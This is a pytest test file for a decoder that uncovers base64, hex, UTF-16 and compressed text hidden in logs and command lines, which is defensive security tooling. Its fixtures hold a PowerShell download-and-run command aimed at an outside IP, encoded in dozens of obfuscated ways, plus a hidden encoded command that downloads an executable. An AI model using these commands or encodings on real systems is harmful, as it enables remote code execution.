"""Spellings of encoded text that tools of this kind get wrong, each with what it means."""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import lzma
import random
import string
import time
import zlib

import pytest

from flowsleuth.extract.decoding import unpack_text

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"


def b64(data: bytes | str) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def url_safe(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def texts(text: str) -> list[str]:
    return [one.text for one in unpack_text(text).walk() if one.text is not None]


def wrapped(text: str, width: int, end: str) -> str:
    return end.join(text[at : at + width] for at in range(0, len(text), width))


def raw_deflate(data: bytes) -> bytes:
    unit = zlib.compressobj(9, wbits=-15)
    return unit.compress(data) + unit.flush()


UTF16 = COMMAND.encode("utf-16-le")
CASES = {
    "plain": b64(COMMAND),
    "text before, of every length modulo 4": f"cmd /c {b64(COMMAND)}",
    "text before 1": f"x {b64(COMMAND)}",
    "text before 2": f"xy {b64(COMMAND)}",
    "text before and behind": f"echo {b64(COMMAND)} > c:\\temp\\a.txt",
    "in double quotes": f'"{b64(COMMAND)}"',
    "in a call": f"[Convert]::FromBase64String('{b64(COMMAND)}')",
    "behind an equals sign": f"payload={b64(COMMAND)}&x=1",
    "in a data URL": f"data:text/plain;base64,{b64(COMMAND)}",
    "in JSON": f'{{"d":"{b64(COMMAND)}"}}',
    "padding missing": b64(COMMAND + "1").rstrip("="),
    "padding missing 2": b64(COMMAND + "12").rstrip("="),
    "UTF-16LE": f"powershell -enc {b64(UTF16)}",
    "UTF-16LE without a switch": b64(UTF16),
    "UTF-16BE": b64(COMMAND.encode("utf-16-be")),
    "UTF-16LE with its mark": b64(COMMAND.encode("utf-16")),
    "UTF-8 with its mark": b64(COMMAND.encode("utf-8-sig")),
    "url-safe": url_safe(COMMAND.encode() + b"~~~???>>>"),
    "url-safe in a path": f"https://h.example/v1/{url_safe(COMMAND.encode())}",
    "lines of 76, LF": wrapped(b64(COMMAND * 5), 76, "\n"),
    "lines of 64, CRLF": wrapped(b64(COMMAND * 5), 64, "\r\n"),
    "a line break in the middle": f"-enc {b64(COMMAND)[:17]}\n{b64(COMMAND)[17:]}",
    "lines escaped as in JSON": wrapped(b64(COMMAND * 5), 76, "\\r\\n"),
    "put together": f"'{b64(UTF16)[:60]}' + '{b64(UTF16)[60:]}'",
    "hex": COMMAND.encode().hex(),
    "hex, capitals": COMMAND.encode().hex().upper(),
    "hex with 0x": f"0x{COMMAND.encode().hex()}",
    "hex escapes": "".join(f"\\x{byte:02x}" for byte in COMMAND.encode()),
    "hex bytes apart": COMMAND.encode().hex(" "),
    "hex bytes as a list": ",".join(f"0x{byte:02x}" for byte in COMMAND.encode()),
    "hex of UTF-16": UTF16.hex(),
    "gzip": b64(gzip.compress(COMMAND.encode())),
    "zlib": b64(zlib.compress(COMMAND.encode())),
    "raw deflate": b64(raw_deflate(COMMAND.encode())),
    "bzip2": b64(bz2.compress(COMMAND.encode())),
    "xz": b64(lzma.compress(COMMAND.encode())),
    "lzma": b64(lzma.compress(COMMAND.encode(), lzma.FORMAT_ALONE)),
    "gzip of UTF-16": b64(gzip.compress(UTF16)),
    "two gzip members": b64(gzip.compress(COMMAND[:20].encode()) + gzip.compress(COMMAND[20:].encode())),
    "two layers": b64(f"powershell -enc {b64(COMMAND)}"),
    "three layers": b64(b64(b64(COMMAND))),
    "four layers": b64(f"a {b64(f'bc {b64(b64(COMMAND))}')} d"),
    "base64 in hex in base64": b64(b64(COMMAND).encode().hex()),
    "UTF-16 in UTF-16": b64(f"powershell -e {b64(UTF16)}".encode("utf-16-le")),
    "gzip in base64 in gzip": b64(gzip.compress(b64(gzip.compress(COMMAND.encode())).encode())),
}


@pytest.mark.parametrize("case", CASES)
def test_what_is_encoded_is_found(case):
    found = texts(CASES[case])
    assert found, unpack_text(CASES[case])
    assert any(COMMAND in text for text in found), found


SHORT = {
    "whoami": "d2hvYW1p",
    "calc.exe": "Y2FsYy5leGU=",
    "ipconfig": "aXBjb25maWc",
    "net user": "bmV0IHVzZXI=",
    "hello": "echo aGVsbG8= | base64 -d",
    "id": "echo aWQ= | base64 --decode",
    "dir": "powershell -e ZABpAHIA",
    "ls": "FromBase64String('bHM=')",
}


@pytest.mark.parametrize("word", SHORT)
def test_short_texts(word):
    assert texts(SHORT[word]) == [word]


ORDINARY = [
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
    "{4d36e972-e325-11ce-bfc1-08002be10318}",
    "4D36E972E32511CEBFC108002BE10318",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoProfile -ExecutionPolicy Bypass",
    "/usr/lib/python3/dist-packages/pkg_resources/_vendor/packaging/specifiers",
    "https://www.example.org/articles/2020/05/internationalization/documentation",
    "HKEY_LOCAL_MACHINE/SOFTWARE/Microsoft/Windows/CurrentVersion/Run",
    "S-1-5-21-3623811015-3361044348-30300820-1013",
    "00:1a:2b:3c:4d:5e 12:34:56 2019-02-13T13:46:48",
    "12345678901234567890123456789012",
    "the quick brown fox jumps over internationalization and characteristically",
    "supercalifragilisticexpialidocious ExperimentalFeatures JSONEncoder PARTIAL_RESULT",
    "experimental CREATEEXTERNALTABLE_OPTIONSENTRY cword_prefix",
    "microsoft-windows-terminalservices-localsessionmanager",
    "00-11-22-33-44-55-66-77-88-99-aa-bb-cc-dd-ee-ff",
    "AA:BB:CC:DD:EE:FF:00:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD",
    "------------------------------------------------------------",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "================",
    "cmd /e cacls -e Pipe <<< cmd",
    "",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_words_are_left_alone(text):
    found = unpack_text(text)
    assert found.found == []
    assert found.full_text == text


def test_hashes_are_never_taken_for_text():
    """In hex or base64, of every usual length; 300593… of a real log reads as Chinese in UTF-16."""
    assert texts("300593048d599cd947b782ea93689c58 74633dc3ab2e714eeba0bd6624b0799d") == []
    for name in ("md5", "sha1", "sha224", "sha256", "sha384", "sha512"):
        for number in range(2_000):
            digest = hashlib.new(name, str(number).encode()).digest()
            assert unpack_text(digest.hex()).found == [], digest.hex()
            if name in ("md5", "sha1", "sha256"):
                assert unpack_text(f"h={b64(digest)};").found == [], b64(digest)


def test_random_ids_are_hardly_ever_taken_for_text():
    """Tokens of URLs and cookies: of 20,000 of 8 to 32 letters some may be words by chance."""
    source = random.Random(7)
    letters = string.ascii_letters + string.digits
    tokens = ["".join(source.choices(letters, k=source.choice((8, 10, 16, 22, 32)))) for _ in range(10_000)]
    tokens += [b64(source.randbytes(source.choice((12, 16, 20, 32)))) for _ in range(10_000)]
    taken = [token for token in tokens if unpack_text(f"https://h.example/{token}?t={token}&u=1").found]
    assert len(taken) <= 6, taken


def test_the_rest_of_the_text_stays_as_it_is():
    """Only the span is replaced: an equal text elsewhere, text around it and a second blob keep their places."""
    first, second = b64("first command line"), b64("another one, longer")
    found = unpack_text(f"a={first}; b=first; c={second}|{first}.")
    assert found.full_text == (
        "a=<decoded type='string' name='[None]' index='1' depth='1'>first command line</decoded>; b=first; "
        "c=<decoded type='string' name='[None]' index='2' depth='1'>another one, longer</decoded>|"
        "<decoded type='string' name='[None]' index='3' depth='1'>first command line</decoded>."
    )
    assert [one.offset for one in found.walk()] == [2, 39, 68]


def test_what_follows_a_padded_text_is_not_part_of_it():
    found = unpack_text(f"{b64('first command line1')} internationalization {b64('another one, longer')}")
    assert [one.text for one in found.walk()] == ["first command line1", "another one, longer"]
    assert " internationalization " in found.full_text


def test_a_text_that_the_log_cut_off():
    encoded = b64(COMMAND)
    for end in range(40, len(encoded)):
        (found,) = texts(encoded[:end])
        assert COMMAND.startswith(found)
        assert len(found) >= end * 3 // 4 - 2


def test_other_scripts():
    for words in (
        "Привет, мир! Запустить команду",
        "こんにちは世界。これは試験です。",
        "καλημέρα κόσμε",
        "안녕하세요 세계, 명령을 실행",
    ):
        for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
            assert texts(b64(words.encode(encoding))) == [words], (words, encoding)


def test_arguments_of_a_linux_command_line_are_set_apart_by_zeros():
    """auditd writes PROCTITLE so."""
    assert texts("proctitle=" + b"iptables\x00-w\x00-t\x00security\x00-C".hex().upper()) == [
        "iptables -w -t security -C"
    ]


def test_twenty_levels_and_the_row_that_says_stop():
    text = "innermost text"
    for _ in range(20):
        text = b64(text)
    nodes = list(unpack_text(text).walk())
    assert nodes[-1].text == "innermost text"
    assert [one.status for one in nodes] == ["decoded"] * 20
    nodes = list(unpack_text(b64(text)).walk())
    assert (nodes[-1].status, nodes[-1].note) == ("limit", "encoded more than 20 levels deep")
    assert nodes[-1].depth == 21


def test_the_demonstrations_command():
    """The command of msticpy's demo notebook, with its line break, and with the blank that a web page makes of it."""
    given = (
        "powershell.exe -nop -w hidden -encodedcommand SW52b2tlLVdlYlJlc{}XVlc3QgLVVyaSAiaHR0cDovLzM4Ljc1LjEzNy45Ojkw"
        "ODgvc3RhdGljL2VuY3J5cHQubWluLmpzIiAtT3V0RmlsZSAiYzpccHduZXIuZXhlIg=="
    )
    for gap in ("\n", " ", "\r\n", ""):
        assert unpack_text(given.format(gap)).full_text == (
            "powershell.exe -nop -w hidden -encodedcommand <decoded type='string' name='[None]' index='1' depth='1'>"
            'Invoke-WebRequest -Uri "http://38.75.137.9:9088/static/encrypt.min.js" -OutFile "c:\\pwner.exe"</decoded>'
        )


LONG = {
    "separators": "a/" * 200_000,
    "separators of the other alphabet": "Ab-_" * 100_000,
    "one run": "A" * 400_000,
    "runs that begin like text": "SGVsbG8 " * 50_000,
    "lines of base64 of zeros": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n" * 8_000,
    "lines that end like text": "SGVsbG8gd29ybGQhSGVsbG8gd29ybGQhSGVsbG8gd29ybGQh\nx" * 8_000,
    "bytes apart": "41 " * 130_000,
    "bytes as code": "0x41," * 80_000,
    "escapes": "\\x41" * 100_000,
    "switches": "-e -enc /e " * 36_000,
    "pipes": "| base64 -d " * 33_000,
    "padding": "=" * 400_000,
    "line breaks": "\r\n" * 200_000,
    "mixed": "aB3/" * 100_000,
    "magic": "H4sIAAAA " * 45_000,
}


@pytest.mark.parametrize("case", LONG)
def test_long_texts_take_time_by_their_length(case):
    begin = time.process_time()
    unpack_text(LONG[case])
    assert time.process_time() - begin < 10
